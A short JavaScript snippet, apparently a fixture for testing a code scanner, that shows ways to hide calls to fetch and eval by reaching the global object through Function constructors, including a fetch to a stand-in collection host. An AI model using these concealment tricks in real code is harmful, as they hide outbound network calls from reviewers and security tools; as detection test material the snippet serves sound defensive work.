// hides: call fetch "http://collect.test/in"
// hides: call eval "fetch(\"x\")"
const g = Function('return this')();
g['fetch']('http://collect.test/in');
const h = (function () { return this })();
h.eval('fetch("x")');
new Function('return globalThis')().fetch('y');
